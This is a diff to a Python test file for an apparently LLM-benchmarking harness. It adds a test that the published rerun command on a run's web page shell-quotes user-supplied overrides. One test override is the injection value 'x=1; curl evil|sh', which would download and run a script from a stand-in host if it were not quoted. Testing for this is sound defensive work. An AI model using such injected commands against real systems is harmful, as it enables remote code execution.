@@ -7,6 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from msgspec.structs import replace
 
+from harness.core.cell import IMPORTED
 from harness.core.record import Step
 from harness.core.verdict import Verdict
 from harness.publish import places
@@ -78,6 +79,16 @@ def test_what_was_measured_on_another_box_says_so_wherever_it_is_shown(tmp_path:
     assert {name for name, text in said.items() if "measured on another box than box" in text} == {
         "site", "box", "model", "run"}
     assert "on another box" in said["quant"]
+
+
+def test_a_run_is_made_again_by_a_line_that_a_shell_takes_as_it_is_meant(tmp_path: Path) -> None:
+    words = ("quant=[q8_0,q4_k_m]", "x=1; curl evil|sh", "results=elsewhere", "reports=there")
+    runs = [replace(run(1, arm("q4")), overrides=words), replace(run(2, arm("q4"), hw=IMPORTED), overrides=())]
+    publish(runs, tmp_path / "none", tmp_path / "site")
+    text = [Page(tmp_path / "site" / "run" / f"{one.plan}.html").text for one in runs]
+    assert "python -m harness run 'quant=[q8_0,q4_k_m]' 'x=1; curl evil|sh' " in text[0]
+    assert "reports=" not in text[0]
+    assert "The same again" not in text[1]
 
 
 def test_a_run_that_has_not_begun_hides_nothing(tmp_path: Path) -> None:
